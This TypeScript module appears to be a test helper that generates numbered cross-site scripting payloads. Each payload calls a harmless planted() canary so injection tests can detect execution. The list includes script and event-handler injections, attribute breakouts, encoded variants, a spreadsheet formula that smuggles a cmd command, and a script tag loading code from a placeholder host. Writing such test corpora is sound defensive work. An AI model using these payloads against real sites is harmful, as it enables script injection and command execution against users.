/** `N` is replaced by a number; an executed payload calls `planted(N)`. */
const PAYLOAD_TEMPLATES = [
  '<script>planted(N)</script>',
  '<ScRiPt>planted(N)</ScRiPt>',
  '</script><script>planted(N)</script>',
  '<img src=x onerror=planted(N) data-planted>',
  '<svg onload=planted(N) data-planted>',
  '<svg><script>planted(N)</script></svg>',
  '<details open ontoggle=planted(N) data-planted>',
  '<body onload=planted(N)>',
  '<iframe srcdoc="<script>parent.planted(N)</script>" data-planted>',
  '<iframe src="javascript:parent.planted(N)" data-planted>',
  '" onmouseover="planted(N)" autofocus onfocus="planted(N)" data-planted="',
  "' autofocus onfocus='planted(N)' data-planted='",
  '`onload=planted(N) data-planted `',
  '--><img src=x onerror=planted(N) data-planted>',
  ']]><img src=x onerror=planted(N) data-planted>',
  '</title><script>planted(N)</script>',
  '</style><script>planted(N)</script>',
  '</textarea><script>planted(N)</script>',
  '</option></select><img src=x onerror=planted(N) data-planted>',
  'javascript:planted(N)',
  'data:text/html,<script>parent.planted(N)</script>',
  '<a href="javascript:planted(N)" data-planted>x</a>',
  '<math><mi xlink:href="data:x,<script>planted(N)</script>" data-planted>',
  '<style>@import "x";*{background:url("javascript:planted(N)")}</style>',
  '<link rel=stylesheet href="javascript:planted(N)" data-planted>',
  '<meta http-equiv=refresh content="0;url=javascript:planted(N)" data-planted>',
  '<base href="javascript:planted(N)//" data-planted>',
  '<object data="javascript:planted(N)" data-planted>',
  '<form action="javascript:planted(N)" data-planted><button>',
  '<!--<img src="--><img src=x onerror=planted(N) data-planted>',
  '<noscript><p title="</noscript><img src=x onerror=planted(N) data-planted>">',
  '<template><script>planted(N)</script></template>',
  '${planted(N)}',
  '{{constructor.constructor("planted(N)")()}}',
  '\\u003cscript\\u003eplanted(N)\\u003c/script\\u003e',
  '&lt;script&gt;planted(N)&lt;/script&gt;',
  '%3Cscript%3Eplanted(N)%3C/script%3E',
  '\u2028planted(N)\u2028',
  "';planted(N);//",
  '";planted(N);//',
  '</script \t\n><img/src=x/onerror=planted(N)/data-planted>',
  '<img src="x` `<script>planted(N)</script>"` `>',
  '<script src=//elsewhere.invalid/N.js data-planted></script>',
  '=cmd|"/c planted(N)"!A1',
  '<video><source onerror=planted(N) data-planted></video>',
]

export function createXssPayloads() {
  let number = 0
  return {
    next(maxLength = 200): string {
      const fitting = PAYLOAD_TEMPLATES.filter((template) => template.length + 4 <= maxLength)
      const template = fitting[number % fitting.length] ?? '<b>N'
      number += 1
      return template.replaceAll('N)', `${number})`).replaceAll('/N.js', `/${number}.js`)
    },
    count: () => number,
  }
}
